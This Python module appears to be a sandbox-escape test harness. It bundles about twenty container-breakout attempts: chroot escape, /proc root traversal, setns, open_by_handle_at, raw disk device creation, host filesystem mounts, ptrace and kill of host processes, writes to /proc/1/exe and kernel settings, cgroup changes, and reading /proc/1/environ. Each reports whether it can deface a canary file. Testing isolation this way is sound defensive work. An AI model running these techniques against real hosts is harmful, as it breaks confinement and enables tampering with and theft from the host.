"""Ways out of a room, to be tried by a script of the kickstart.

This text, followed by a call of `attempt`, is the whole script: it needs nothing but Python's own
modules. Whatever it finds out is printed; a way that leads out is used to deface a file of the
host, which the test watches from there.
"""

# It runs where there is no pathlib, and in rooms whose /tmp is their own.
# ruff: noqa: PTH102, PTH103, PTH112, PTH123, PTH208, S108, S606, T201

from __future__ import annotations

import ctypes
import os
import signal
import socket
import struct
import time

libc = ctypes.CDLL(None, use_errno=True)
NAMESPACES = ("user", "mnt", "pid", "net", "ipc", "uts", "cgroup")
BIND, REMOUNT, READ_ONLY = 0x1000, 0x20, 0x1
OPEN_BY_HANDLE_AT = 304
NEW_CGROUP_NAMESPACE = 0x02000000
PTRACE_ATTACH = 16


def attempt(name, facts):
    """Try one way; *facts* is what a clever attacker would know of the host."""
    say(f"attempt {name} begun")
    WAYS[name](facts)
    say(f"attempt {name} ended")


def say(text):
    """Print a line at once: what comes next may not return."""
    print(text, flush=True)


def called(what, result):
    """Print how a system call went, and return whether it went well."""
    error = "" if result >= 0 else os.strerror(ctypes.get_errno())
    say(f"{what}: {error or 'done'}")
    return result >= 0


def deface(root, facts):
    """Read and overwrite the host's file below what may be the host's root."""
    path = f"{root}{facts['canary']}"
    try:
        with open(path, "r+", encoding="utf-8") as file:
            say(f"{path} holds {file.read()}")
            file.seek(0)
            file.write("defaced")
    except OSError as error:
        say(f"{path}: {error.strerror}")
        return False
    return True


def directly(facts):
    """Read and write a file in the user's home by its name."""
    deface("", facts)


def chroot_twice(facts):
    """Leave a chroot by making another one below a folder that is still open."""
    os.makedirs("/tmp/inner", exist_ok=True)
    outer = os.open("/", os.O_RDONLY)
    os.chroot("/tmp/inner")
    os.fchdir(outer)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    deface("", facts)


def root_of_processes(facts):
    """Look at the world as other processes see it."""
    for pid in everyone():
        deface(f"/proc/{pid}/root", facts)


def folder_of_processes(facts):
    """Climb from where other processes are."""
    for pid in everyone():
        deface(f"/proc/{pid}/cwd" + "/.." * 64, facts)


def open_folders(facts):
    """Climb from a folder that some process was given open."""
    for pid in everyone():
        for descriptor in os.listdir(f"/proc/{pid}/fd"):
            name = f"/proc/{pid}/fd/{descriptor}"
            if os.path.isdir(name):
                say(f"{name} is a folder")
                deface(name + "/.." * 64, facts)


def everyone():
    found = [name for name in os.listdir("/proc") if name.isdecimal()]
    say(f"sees processes {' '.join(found)}")
    return [*found, "1", "self"]


def join_namespaces(facts):
    """Go over into the namespaces of other processes."""
    for pid in everyone():
        for kind in NAMESPACES:
            try:
                namespace = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
            except OSError as error:
                say(f"{pid}/{kind}: {error.strerror}")
                continue
            called(f"setns {pid}/{kind}", libc.setns(namespace, 0))
            os.close(namespace)
        deface("", facts)


def file_handles(facts):
    """Open a file by what identifies it on its file system, whatever its path."""
    handle = bytes.fromhex(facts["handle"])
    here = os.open("/", os.O_RDONLY)
    opened = libc.syscall(OPEN_BY_HANDLE_AT, here, handle, os.O_RDWR)
    if called("open_by_handle_at", opened):
        os.write(opened, b"defaced")


def device_of_the_disk(facts):
    """Read the host's disk."""
    for major, minor in facts["devices"]:
        path = f"/tmp/disk-{major}-{minor}"
        try:
            os.mknod(path, 0o60600, os.makedev(major, minor))
            with open(path, "rb") as disk:
                disk.read(512)
        except OSError as error:
            say(f"{major}:{minor}: {error.strerror}")
        else:
            say(f"{major}:{minor}: read")


def mount_the_host(facts):
    """Mount file systems that show the host."""
    os.makedirs("/tmp/mount", exist_ok=True)
    for kind in ("sysfs", "devtmpfs", "debugfs", "tracefs", "securityfs", "efivarfs", "pstore"):
        result = libc.mount(kind.encode(), b"/tmp/mount", kind.encode(), 0, None)
        if called(f"mount {kind}", result):
            say(f"{kind} shows {os.listdir('/tmp/mount')}")
            libc.umount2(b"/tmp/mount", 2)


def kill_outside(facts):
    """End a process of the host."""
    try:
        os.kill(facts["victim"], signal.SIGKILL)
    except OSError as error:
        say(f"kill: {error.strerror}")
    else:
        say("kill: done")


def kill_everyone(facts):
    """End every process there is."""
    del facts
    try:
        os.kill(-1, signal.SIGCONT)
    except OSError as error:
        say(f"kill -1: {error.strerror}")
    else:
        say("kill -1: done")


def trace_outside(facts):
    """Take over a process of the host."""
    called("ptrace", libc.ptrace(PTRACE_ATTACH, facts["victim"], 0, 0))


def host_interpreter(facts):
    """Write to the program that the room's first process runs: it is the host's."""
    del facts
    try:
        os.close(os.open("/proc/1/exe", os.O_WRONLY))
    except OSError as error:
        say(f"/proc/1/exe: {error.strerror}")
    else:
        say("/proc/1/exe: opened for writing")
    open("/tmp/target", "w").close()
    if called("bind", libc.mount(b"/proc/1/exe", b"/tmp/target", None, BIND, None)):
        remounted = libc.mount(None, b"/tmp/target", None, BIND | REMOUNT, None)
        if called("remount", remounted) and os.access("/tmp/target", os.W_OK):
            say("/tmp/target: opened for writing")


def kernel_settings(facts):
    """Change a setting of the host's kernel."""
    try:
        with open(facts["setting"], "w") as file:
            file.write(facts["wanted"])
    except OSError as error:
        say(f"{facts['setting']}: {error.strerror}")
    else:
        say(f"{facts['setting']}: written")


def kernel_settings_elsewhere(facts):
    """The same by another mount of /proc."""
    os.makedirs("/tmp/proc", exist_ok=True)
    for what in ((None, b"/proc", None, REMOUNT | BIND), (b"proc", b"/tmp/proc", b"proc", 0)):
        called(f"mount {what[1].decode()}", libc.mount(*what, None))
    kernel_settings({**facts, "setting": facts["setting"].replace("/proc", "/tmp/proc")})


def control_groups(facts):
    """Change which resources the host's processes get."""
    os.makedirs("/tmp/cgroup", exist_ok=True)
    called("unshare", libc.unshare(NEW_CGROUP_NAMESPACE))
    for kind, data in (("cgroup2", None), ("cgroup", b"pids"), ("cgroup", b"none,name=systemd")):
        result = libc.mount(b"cgroup", b"/tmp/cgroup", kind.encode(), 0, data)
        if called(f"mount {kind} {data}", result):
            try:
                os.mkdir(f"/tmp/cgroup/{facts['token']}")
                say(f"{kind}: made a group")
            except OSError as error:
                say(f"{kind}: {error.strerror}")
            libc.umount2(b"/tmp/cgroup", 2)


def network(facts):
    """Talk to a service of the host."""
    with socket.socket() as client:
        client.settimeout(2)
        try:
            client.connect(("127.0.0.1", facts["port"]))
        except OSError as error:
            say(f"connect: {error}")
        else:
            say("connect: done")


def unnamed_socket(facts):
    """Talk to a service of the host by a socket that has no path."""
    with socket.socket(socket.AF_UNIX) as client:
        try:
            client.connect("\0" + facts["token"])
        except OSError as error:
            say(f"connect: {error}")
        else:
            say("connect: done")


def stay_behind(facts):
    """Leave a process running that is nobody's child and heeds no signal."""
    reader, writer = os.pipe()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in (signal.SIGHUP, signal.SIGTERM, signal.SIGINT):
                signal.signal(number, signal.SIG_IGN)
            null = os.open("/dev/null", os.O_RDWR)
            for descriptor in range(3):
                os.dup2(null, descriptor)
            os.write(writer, b"x")
            os.execv("/bin/sleep", ["sleep", facts["sleep"]])
        os._exit(0)
    os.read(reader, 1)
    time.sleep(0.1)
    say("left a process behind")


def look_around(facts):
    """Read what a room could tell of the host: its environment, its name, its files."""
    with open("/proc/1/environ", "rb") as file:
        theirs = file.read().replace(b"\0", b"\n").decode()
    own = "\n".join(f"{key}={value}" for key, value in os.environ.items())
    say(f"environment {sorted({*theirs.split(), *own.split()})}")
    say(f"hostname {socket.gethostname()}")
    say(f"files {sorted(os.listdir('/'))}")
    say(f"interfaces {sorted(name for _, name in socket.if_nameindex())}")


def handle_of(path):
    """Return the file handle of *path*, as name_to_handle_at(2) gives it. Used by the test."""
    buffer = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128), 136)
    mount = ctypes.c_int()
    result = libc.name_to_handle_at(-100, os.fsencode(path), buffer, ctypes.byref(mount), 0)
    if result:
        raise OSError(ctypes.get_errno(), "name_to_handle_at")
    return buffer.raw.hex()


WAYS = {
    way.__name__: way
    for way in (
        directly,
        chroot_twice,
        root_of_processes,
        folder_of_processes,
        open_folders,
        join_namespaces,
        file_handles,
        device_of_the_disk,
        mount_the_host,
        kill_outside,
        kill_everyone,
        trace_outside,
        host_interpreter,
        kernel_settings,
        kernel_settings_elsewhere,
        control_groups,
        network,
        unnamed_socket,
        stay_behind,
        look_around,
    )
}
